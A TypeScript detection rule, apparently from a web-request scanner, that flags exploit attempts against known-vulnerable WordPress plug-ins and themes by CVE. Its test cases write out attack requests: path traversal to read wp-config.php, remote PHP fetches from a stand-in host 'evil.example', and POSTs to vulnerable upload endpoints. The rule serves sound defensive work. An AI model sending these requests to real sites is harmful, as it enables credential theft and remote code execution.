import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'cve/wordpress-plugin',
  title: 'Known hole of a WordPress plug-in',
  why: 'Plug-in and theme pages with the parameters that their public exploits use: file downloads, uploads, code.',
  ja: {
    title: 'WordPress プラグインの既知の脆弱性',
    why: 'プラグインやテーマのページに、公開された攻撃で使われる引数（ファイル取得・アップロード・コード実行）を送っています。',
  },
  severity: 'high',
  stage: 'inject',
  attack: ['T1190'],
  cwe: [22, 434],
  cve: ['CVE-2014-9734', 'CVE-2020-25213', 'CVE-2024-27956', 'CVE-2024-25600', 'CVE-2023-6553'],
  refs: [
    'https://nvd.nist.gov/vuln/detail/CVE-2014-9734',
    'https://nvd.nist.gov/vuln/detail/CVE-2020-25213',
    'https://nvd.nist.gov/vuln/detail/CVE-2024-27956',
  ],

  where: ['target'],
  needs: [
    [
      'revslider',
      'wp-file-manager',
      'wp-automatic',
      'timthumb',
      '/bricks/v1/',
      'duplicator',
      '/batch/v1',
      '/pmpro/v1/',
      'wp_automatic',
      'wpdiscuz-ajax',
      'ait-csv',
      'backup-backup',
      'formcraft3',
      'simple-file-list',
      'wp-config.php',
      'um_get_members',
      'get_remote_data',
      'force-download.php',
      'forcedownload.php',
      'upload.php',
      'uploads.php',
      'proxy.php',
      'uploadify.php',
      'uploader.php',
      'upload-file.php',
      'upload_file.php',
      'filedownload',
      'file-download',
      'file_download',
      'wc_help_scout',
      'hurraki_tooltip',
      'workreap',
    ],
  ],
  match:
    /action=(?:revslider_(?:show_image|ajax_action)|duplicator_download|um_get_members|formcraft3_get|wc_help_scout_upload_attachments|hurraki_tooltip_proxy|workreap_award_temp_file_uploader|aam-media-load|eventon_ics_download)|\/wp-file-manager\/lib\/php\/connector|\/wp-automatic\/inc\/csv\.php|wp_automatic=download|\/(?:tim)?thumb\.php\?(?:[^\n]{0,100}&)?src=https?:\/\/(?![^\s%&?]{1,300}\.(?:jpe?g|png|gif|webp|bmp)(?:$|&))|\/bricks\/v1\/render_element|rest_route=\/(?:batch\/v1|bricks\/v1\/|pmpro\/v1\/order)|\/wp-json\/batch\/v1|\/wpdiscuz-ajax\.php|\/ait-csv-import-export\/admin\/upload-handler|\/backup-backup\/includes\/backup-heart\.php|\/simple-file-list\/ee-(?:upload|file)-engine\.php|\/wp-content\/(?:plugins|themes)\/[\w-]{1,60}\/[\w./-]{0,100}(?:force-?download|get_remote_data|file[-_]?download|upload(?:s|er|ify|[-_]file)?|proxy)\.php(?:$|\?)/i,

  hits: [
    'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php HTTP/1.1',
    'POST /wp-content/plugins/wp-automatic/inc/csv.php HTTP/1.1',
    'POST /wp-json/bricks/v1/render_element HTTP/1.1',
    'GET /wp-content/themes/x/timthumb.php?src=http://evil.example/a.php HTTP/1.1',
    'GET /wp-content/plugins/x/lib/force-download.php?f=a HTTP/1.1',
    ...each(
      'GET /wp-admin/admin-ajax.php?action={}&img=../wp-config.php HTTP/1.1',
      `duplicator_download um_get_members formcraft3_get wc_help_scout_upload_attachments
    hurraki_tooltip_proxy workreap_award_temp_file_uploader aam-media-load eventon_ics_download`,
    ),
    'GET /wp-admin/admin-ajax.php?action=revslider_ajax_action&img=../wp-config.php HTTP/1.1',
    'GET /wp-content/themes/x/lib/force-download.php?f=a HTTP/1.1',
    ...each(
      'GET /wp-content/plugins/x/lib/{}.php?f=a HTTP/1.1',
      'get_remote_data filedownload upload proxy',
    ),
    ...each(
      'POST /{} HTTP/1.1',
      `wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php ?wp_automatic=download&link=a
    ?rest_route=/batch/v1 ?rest_route=/bricks/v1/a ?rest_route=/pmpro/v1/order
    wp-json/batch/v1 wpdiscuz-ajax.php ait-csv-import-export/admin/upload-handler.php
    backup-backup/includes/backup-heart.php simple-file-list/ee-upload-engine.php simple-file-list/ee-file-engine.php`,
    ),
    'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../revslider HTTP/1.1',
    'GET /wp-admin/admin-ajax.php?action=duplicator_download&img=../duplicator HTTP/1.1',
    'GET /wp-admin/admin-ajax.php?action=formcraft3_get&img=../formcraft3 HTTP/1.1',
    'GET /wp-admin/admin-ajax.php?action=um_get_members&img=../um_get_members HTTP/1.1',
    ...each(
      'GET /wp-content/plugins/x/lib/{}?f=a HTTP/1.1',
      'forcedownload.php uploads.php uploadify.php uploader.php upload-file.php upload_file.php',
    ),
    'GET /wp-content/themes/x/file-download.php?src=http://evil.example/a.php HTTP/1.1',
    'GET /wp-content/themes/x/file_download.php?src=http://evil.example/a.php HTTP/1.1',
    'GET /wp-admin/admin-ajax.php?action=wc_help_scout_upload_attachments&img=../wc_help_scout HTTP/1.1',
    'GET /wp-admin/admin-ajax.php?action=hurraki_tooltip_proxy&img=../hurraki_tooltip HTTP/1.1',
    'GET /wp-admin/admin-ajax.php?action=workreap_award_temp_file_uploader&img=../workreap HTTP/1.1',
  ],
  misses: [
    'GET /timthumb.php?src=https://www.example.com/files/2026/03/a.jpg&w=300 HTTP/1.1',
    'GET /wp-admin/admin-ajax.php?action=heartbeat HTTP/1.1',
    'GET /wp-content/plugins/contact-form-7/includes/js/index.js HTTP/1.1',
    'GET /wp-json/wp/v2/posts HTTP/1.1',
    'GET /wp-content/plugins/files/download.php?id=3 HTTP/1.1',
    'GET /wp-content/themes/x/timthumb.php?src=/img/a.jpg HTTP/1.1',
    {
      request: 'GET /style.css HTTP/1.1',
      referrer:
        'https://www.example.com/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
    },
  ],
})
